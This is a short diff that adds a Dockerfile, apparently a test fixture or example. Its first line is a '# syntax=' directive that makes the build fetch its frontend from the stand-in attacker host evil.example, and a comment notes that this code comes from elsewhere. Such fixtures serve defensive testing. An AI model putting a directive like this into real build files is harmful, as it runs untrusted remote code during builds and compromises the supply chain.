@@ -1,0 +1,3 @@
+# syntax=evil.example/frontend:latest
+# dockerfile-syntax: read by a program from elsewhere
+FROM nginx
